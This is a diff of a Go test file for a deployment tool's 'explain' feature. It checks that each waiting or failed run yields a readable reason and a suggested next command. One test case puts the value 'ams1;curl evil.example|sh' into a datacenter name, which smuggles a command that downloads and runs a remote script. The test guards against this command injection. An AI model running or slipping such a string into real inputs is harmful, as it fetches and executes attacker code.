@@ -30,7 +30,20 @@ func TestEveryWaitAndFailureHasItsSentence(t *testing.T) {
 		}
 		return c
 	}
-	because := func(reason string) func(c *writ.Call) { return func(c *writ.Call) { c.Reason = reason } }
+	because := func(why writ.Reason) func(c *writ.Call) {
+		return func(c *writ.Call) { c.Why, c.Reason = why, why.String() }
+	}
+	hold := func(h writ.HoldReason) writ.Reason {
+		h.Since = time.Date(2026, 3, 1, 12, 0, 5, 0, time.UTC)
+		return writ.Reason{Code: writ.ReasonHold, Hold: &h}
+	}
+	retry := func(minute int) writ.Reason {
+		return writ.Reason{Code: writ.ReasonRetry, Until: time.Date(2026, 3, 1, 12, minute, 3, 0, time.UTC), Error: failed(writ.CodeInjected)}
+	}
+	progress := func(text string) writ.Reason { return writ.Reason{Code: writ.ReasonProgress, Text: text} }
+	runWaits := func(s *situation, why writ.Reason) {
+		s.run.State, s.run.Why, s.run.Reason = api.RunStateAccepted, why, why.String()
+	}
 	for _, tt := range []struct {
 		name   string
 		change func(s *situation)
@@ -59,34 +72,34 @@ func TestEveryWaitAndFailureHasItsSentence(t *testing.T) {
 			s.run.State, s.run.Failure = api.RunStateCancelled, failure(writ.CodeSignerRevoked, 0)
 		}, "SIGNER_REVOKED", "writ run show " + string(id), ""},
 		{"Blocked", func(s *situation) {
-			s.run.State, s.run.Reason = api.RunStateAccepted, "waits for run "+string(other)+", an earlier one of the deployment web"
+			runWaits(s, writ.Reason{Code: writ.ReasonRun, Run: other, Deployment: "web"})
 		}, "an earlier one of the deployment web", "writ run explain " + string(other), ""},
 		{"OnHold", func(s *situation) {
-			s.run.State, s.run.Reason = api.RunStateAccepted, "is on hold (writ release --dc ams1): alice has held the datacenter since 12:00:05 UTC (the node n1 burns)"
+			runWaits(s, hold(writ.HoldReason{Datacenter: "ams1", By: "alice", Text: "the node n1 burns"}))
 		}, "alice has held the datacenter since", "writ release --dc ams1", ""},
 		{"CallOnHold", func(s *situation) {
-			s.calls = []writ.Call{volume(1, writ.CallPlanned, because("is on hold (writ release --dc ams1 --operation volume): bob has held the operation volume since 12:00:05 UTC"))}
+			s.calls = []writ.Call{volume(1, writ.CallPlanned, because(hold(writ.HoldReason{Datacenter: "ams1", Operation: "volume", By: "bob"})))}
 		}, "waits for 1", "", "since 12:00:05 UTC writ release --dc ams1 --operation volume"},
 		{"ACommandThatNobodyShouldType", func(s *situation) {
-			s.run.State, s.run.Reason = api.RunStateAccepted, "is on hold (writ release --dc ams1;curl evil.example|sh): x"
-		}, "evil.example|sh): x", "writ run watch " + string(id), ""},
+			runWaits(s, hold(writ.HoldReason{Datacenter: "ams1;curl evil.example|sh", By: "eve", Text: "evil"}))
+		}, "it is on hold: eve has held the datacenter since 12:00:05 UTC (evil)", "writ run watch " + string(id), ""},
 		{"AfterARestore", func(s *situation) {
-			s.calls = []writ.Call{volume(1, writ.CallPlanned, because("waits for node reports (writ node list): n2 has not said yet what there is of this run, and the journal came from a backup"))}
+			s.calls = []writ.Call{volume(1, writ.CallPlanned, because(writ.Reason{Code: writ.ReasonNodeReport, Nodes: []writ.NodesReason{{Names: []string{"n2"}}}}))}
 		}, "waits for 1", "", "came from a backup writ node list"},
 		{"BeforeItsFirstPass", func(s *situation) { s.run.State = api.RunStateAccepted }, "evaluated next", "writ run watch " + string(id), ""},
 		{"NoNode", func(s *situation) {
-			s.calls = []writ.Call{volume(1, writ.CallPlanned, because("no node is ready: n1: is silent"))}
+			s.calls = []writ.Call{volume(1, writ.CallPlanned, because(writ.Reason{Code: writ.ReasonNoNode, Nodes: []writ.NodesReason{{Names: []string{"n1"}, Text: "is silent"}}}))}
 		},
 			"waits for 1 of its 1 call: call 1 (volume.create v)", "", "no node is ready: n1: is silent writ node list"},
 		{"ResourceBusy", func(s *situation) {
-			s.calls = []writ.Call{volume(1, writ.CallPlanned, because("another run, "+string(other)+", still works on the volume v"))}
+			s.calls = []writ.Call{volume(1, writ.CallPlanned, because(writ.Reason{Code: writ.ReasonResource, Run: other, Resource: "volume v"}))}
 		}, "waits for 1", "", "still works on the volume v writ run explain " + string(other)},
 		{"Retry", func(s *situation) {
-			s.calls = []writ.Call{volume(1, writ.CallPlanned, because("is tried again at 12:00:03 UTC, after INJECTED: told to fail"))}
+			s.calls = []writ.Call{volume(1, writ.CallPlanned, because(retry(0)))}
 		},
 			"waits for 1", "", "is tried again at 12:00:03 UTC, after INJECTED"},
 		{"RetryAtANodeThatTakesNothing", func(s *situation) {
-			s.calls = []writ.Call{volume(1, writ.CallPlanned, because("is tried again at 11:00:03 UTC, after INJECTED: told to fail"), func(c *writ.Call) { c.Error = failed(writ.CodeInjected) })}
+			s.calls = []writ.Call{volume(1, writ.CallPlanned, because(retry(30)), func(c *writ.Call) { c.Error = failed(writ.CodeInjected) })}
 			s.nodes["n"] = writ.Node{Liveness: writ.LivenessReady, Fault: "the node's journal cannot be written: the disk is full"}
 		}, "waits for 1", "", "n1, where it goes, takes no work: the node's journal cannot be written: the disk is full; its last attempt ended with INJECTED: told to fail writ node show n1 --dc ams1"},
 		{"Dependency", func(s *situation) {
@@ -108,20 +121,20 @@ func TestEveryWaitAndFailureHasItsSentence(t *testing.T) {
 			s.calls, s.nodes["n"] = []writ.Call{volume(1, writ.CallRunning)}, writ.Node{Liveness: writ.LivenessLost, LastBeat: now}
 		}, "waits for 1", "", " writ node lost n1 --dc ams1"},
 		{"BoundToALostNode", func(s *situation) {
-			s.calls, s.nodes["n"] = []writ.Call{volume(1, writ.CallPlanned, because("waits for node n1, which is lost"))}, writ.Node{Liveness: writ.LivenessLost, LastBeat: now}
+			s.calls, s.nodes["n"] = []writ.Call{volume(1, writ.CallPlanned, because(writ.Reason{Code: writ.ReasonNode, Node: "n1", State: "lost"}))}, writ.Node{Liveness: writ.LivenessLost, LastBeat: now}
 		}, "waits for 1", "", " writ node lost n1 --dc ams1"},
 		{"ScriptWaitsForALostNode", func(s *situation) {
-			s.calls = []writ.Call{volume(1, writ.CallQueued, because("its node n1 is lost; the call waits for it (on_loss)"))}
+			s.calls = []writ.Call{volume(1, writ.CallQueued, because(writ.Reason{Code: writ.ReasonLostNode, Node: "n1"}))}
 		}, "waits for 1", "", "waits for it (on_loss) writ node lost n1 --dc ams1"},
 		{"Running", func(s *situation) { s.calls = []writ.Call{volume(1, writ.CallRunning)} }, "waits for 1", "", "n1 has worked on it for 1m0s, in attempt 1"},
 		{"Hanging", func(s *situation) {
-			s.calls = []writ.Call{volume(1, writ.CallRunning, because("0 %"), func(c *writ.Call) { c.EndBy = now.Add(time.Hour) })}
+			s.calls = []writ.Call{volume(1, writ.CallRunning, because(progress("0 %")), func(c *writ.Call) { c.EndBy = now.Add(time.Hour) })}
 		}, "waits for 1", "writ run watch " + string(id), "in attempt 1, which its timeout ends by " + clock(now.Add(time.Hour)) + ": 0 % writ run cancel " + string(id)},
 		{"FarOn", func(s *situation) {
-			s.calls = []writ.Call{volume(1, writ.CallRunning, because("64 of 2048 MiB are there"))}
+			s.calls = []writ.Call{volume(1, writ.CallRunning, because(progress("64 of 2048 MiB are there")))}
 		}, "waits for 1", "", "n1 has worked on it for 1m0s, in attempt 1: 64 of 2048 MiB are there"},
 		{"FarOnAtASilentNode", func(s *situation) {
-			s.calls, s.nodes["n"] = []writ.Call{volume(1, writ.CallRunning, because("64 of 2048 MiB are there"))}, writ.Node{Liveness: writ.LivenessSilent, LastBeat: now}
+			s.calls, s.nodes["n"] = []writ.Call{volume(1, writ.CallRunning, because(progress("64 of 2048 MiB are there")))}, writ.Node{Liveness: writ.LivenessSilent, LastBeat: now}
 		}, "waits for 1", "", "; 64 of 2048 MiB are there writ node show n1 --dc ams1"},
 		{"BehindAStuckDriver", func(s *situation) {
 			s.calls = []writ.Call{volume(1, writ.CallRunning, func(c *writ.Call) { c.Kind = writ.KindVolume })}
@@ -205,12 +218,12 @@ func TestEveryWaitAndFailureHasItsSentence(t *testing.T) {
 			}
 			tt.change(s)
 			got := s.explain()
-			if !strings.Contains(got.Why, tt.why) || tt.next != "" && got.Next != tt.next {
-				t.Errorf("it says %q, next %q; want %q, %q", got.Why, got.Next, tt.why, tt.next)
+			if !strings.Contains(got.Why, tt.why) || tt.next != "" && got.Next.Line != tt.next {
+				t.Errorf("it says %q, next %q; want %q, %q", got.Why, got.Next.Line, tt.why, tt.next)
 			}
 			var calls []string
 			for _, c := range got.Calls {
-				calls = append(calls, c.Why+" "+c.Next)
+				calls = append(calls, c.Why+" "+c.Next.Line)
 			}
 			if all := strings.Join(calls, "; "); !strings.Contains(all, tt.calls) {
 				t.Errorf("of the calls it says %q, want %q", all, tt.calls)
@@ -257,7 +270,7 @@ func TestAResumeIsAdvisedOnlyWhereItCanHelp(t *testing.T) {
 				run: api.Run{ID: id, State: api.RunStateFailed, Script: "web.tengo", Accepted: now, Deadline: now.Add(time.Hour), Failure: &writ.Failure{Error: *of.Error, Seq: seq}},
 				now: now, calls: []writ.Call{failed, needs}, nodes: map[writ.NodeID]writ.Node{"n": tt.node},
 			}
-			if got := s.explain().Next; got != tt.next {
+			if got := s.explain().Next.Line; got != tt.next {
 				t.Errorf("%s of call %d, node %s: %q, want %q", tt.code, seq, tt.node.Admission, got, tt.next)
 			}
 		}
